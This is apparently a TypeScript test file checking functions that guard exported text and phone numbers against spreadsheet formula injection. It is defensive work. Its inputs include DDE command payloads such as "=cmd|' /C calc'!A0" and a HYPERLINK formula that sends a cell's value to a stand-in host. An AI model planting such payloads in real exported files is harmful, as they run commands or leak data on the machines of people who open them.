import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { guardPhone, guardText, joinPhones } from '#backend/export/formula'

describe('guardText', () => {
  // The first letters that OWASP names, and payloads seen in the wild.
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test/?x="&A1,"click")',
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tharmless',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b@A1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '=',
  ])('puts an apostrophe before %j', (text) => {
    expect(guardText(text)).toBe(`'${text}`)
  })

  it.each([
    '',
    'Əli',
    'Иван',
    'a=b',
    '1-2',
    'x@example.test',
    "'=1",
    '(=1)',
    '😀=1',
    '  Leyla',
    '#N/A',
    '%=1',
  ])('leaves %j alone', (text) => {
    expect(guardText(text)).toBe(text)
  })

  it('leaves no text that starts with a sign, whatever stands before the sign', () => {
    const blank = fc.constantFrom(' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\u0001')
    const sign = fc.constantFrom(...'=+-@＝＋－＠')
    fc.assert(
      fc.property(fc.array(blank), sign, fc.string(), (blanks, start, rest) => {
        expect(guardText(blanks.join('') + start + rest)).toMatch(/^'/)
      }),
    )
  })
})

describe('guardPhone', () => {
  it.each([
    '+994505355757',
    '+994 50 535 57 57',
    '994505355757',
    '0505355757',
    '050-535-57-57',
    '(050) 535 57 57',
    ' +994505355757'.trim(),
  ])('leaves %j as it was typed', (phone) => {
    expect(guardPhone(phone)).toBe(phone)
  })

  it.each([
    ['+994-50-535-57-57', '+994 50 535 57 57'],
    ['+994(50)5355757', '+994 50 5355757'],
    ['+994 (50) 535-57-57', '+994 50 535 57 57'],
    ['+994/50/535.57.57', '+994 50 535 57 57'],
    ['-0505355757', '0505355757'],
    ['\t+994505355757', '+994505355757'],
    ['\n050 535 57 57\r\n', '050 535 57 57'],
    [' +994–50–5355757', '+994 50 5355757'],
  ])('writes %j as %j, which nobody calculates', (phone, safe) => {
    expect(guardPhone(phone)).toBe(safe)
  })

  it.each([
    '+994505355757+1',
    '=994505355757',
    '-1',
    '+1-1',
    '+994505355757*2',
    '@0505355757',
    '+50 ask Ali',
    '＋994505355757',
  ])('guards %j, which is no phone number', (text) => {
    expect(guardPhone(text)).toBe(`'${text}`)
  })

  it('keeps the digits of a phone number and makes it safe, however it is written', () => {
    const letters = fc.array(fc.constantFrom(...'0123456789 -()./\t'), { minLength: 1, maxLength: 25 })
    fc.assert(
      fc.property(fc.constantFrom('', '+'), letters, (plus, rest) => {
        const safe = guardPhone(plus + rest.join(''))
        expect(safe.replace(/\D/g, '')).toBe(rest.join('').replace(/\D/g, ''))
        expect(safe).toMatch(/^(?![\t\r\n]|\s*[=@-])\s*([^+\s]|\+[\d \u00a0]*$|$)/)
      }),
    )
  })
})

describe('joinPhones', () => {
  it('joins numbers, each made safe', () => {
    expect(joinPhones(['+994505355757', '+994-55-111-22-33'])).toBe('+994505355757, +994 55 111 22 33')
  })

  it('guards the whole text where one part is no number', () => {
    expect(joinPhones(['+994505355757', "=cmd|' /C calc'!A0"])).toBe("'+994505355757, =cmd|' /C calc'!A0")
    expect(joinPhones(['0505355757', 'home'])).toBe('0505355757, home')
  })

  it('leaves out empty ones', () => {
    expect(joinPhones(['', ' ', '0505355757'])).toBe('0505355757')
    expect(joinPhones([])).toBe('')
  })
})
